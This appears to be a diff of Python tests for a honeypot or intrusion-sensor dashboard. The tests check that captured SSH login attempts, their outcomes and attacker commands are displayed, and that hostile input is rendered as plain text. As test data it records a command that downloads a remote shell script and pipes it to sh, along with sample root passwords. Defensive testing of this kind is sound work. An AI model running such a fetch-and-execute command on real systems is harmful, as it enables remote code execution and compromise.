@@ -26,6 +26,11 @@ def opened(site: Site, name: str) -> str:
     return site.get(f"/events/sessions/{number}").text
 
 
+def attempt(user: str, password: str, outcome: str) -> list[dict[str, str]]:
+    """A login attempt as adapters tell it."""
+    return [detail("username", user), detail("password", password), detail("login", outcome)]
+
+
 def version(page: str) -> str:
     found = re.search(r"version=([0-9a-f]+)", page)
     assert found
@@ -80,9 +85,9 @@ def test_opened_session_is_sent_again_only_when_it_grew(site: Site, sensor: int)
 
 def test_credentials_and_commands_are_told(site: Site, sensor: int) -> None:
     details = [
-        detail("login", {"user": "root", "password": "s3cret", "accepted": False}),
-        detail("login", {"user": "root", "password": "toor", "accepted": True}),
-        detail("login", "not JSON"),
+        *attempt("root", "s3cret", "refused"),
+        *attempt("root", "toor", "accepted"),
+        *attempt("guest", "", "something new"),
         detail("command", "wget http://198.51.100.9/x.sh | sh"),
     ]
     site.event(sensor, kind="login", severity="high", summary="SSH login", details=details)
@@ -90,7 +95,7 @@ def test_credentials_and_commands_are_told(site: Site, sensor: int) -> None:
     credentials = re.findall(r"<tr>(.*?)</tr>", fragment, re.DOTALL)
     assert any("s3cret" in row and "refused" in row for row in credentials)
     assert any("toor" in row and "accepted" in row for row in credentials)
-    assert any("not JSON" in row for row in credentials)
+    assert any("guest" in row and "accepted" not in row and "refused" not in row for row in credentials)
     assert "wget http://198.51.100.9/x.sh | sh" in fragment
 
 
@@ -105,7 +110,8 @@ def test_payload_is_shown_as_bytes_and_text(site: Site, sensor: int) -> None:
 
 def test_hostile_content_stays_text_everywhere(site: Site, sensor: int) -> None:
     details = [
-        detail("login", {"user": HOSTILE, "password": HOSTILE, "accepted": False, HOSTILE: HOSTILE}),
+        *attempt(HOSTILE, HOSTILE, HOSTILE),
+        detail("file", {"name": HOSTILE, HOSTILE: HOSTILE}),
         detail("command", HOSTILE),
         detail("note", HOSTILE),
     ]
